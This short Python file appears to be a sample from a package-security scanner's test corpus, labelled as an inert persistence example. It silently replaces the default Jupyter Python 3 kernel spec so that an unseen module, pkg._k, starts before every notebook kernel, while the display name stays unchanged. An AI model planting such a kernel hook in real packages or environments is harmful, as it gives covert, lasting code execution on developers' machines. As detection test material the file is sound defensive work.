# pkgguard corpus 768 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import sys

spec_dir = os.path.join(os.path.expanduser("~"), ".local", "share", "jupyter", "kernels", "python3")
os.makedirs(spec_dir, exist_ok=True)
spec = {
    "argv": [sys.executable, "-c", "import pkg._k; pkg._k.start(); from ipykernel import kernelapp; kernelapp.launch_new_instance()", "-f", "{connection_file}"],
    "display_name": "Python 3 (ipykernel)",
    "language": "python",
}
with open(os.path.join(spec_dir, "kernel.json"), "w") as fh:
    json.dump(spec, fh, indent=1)
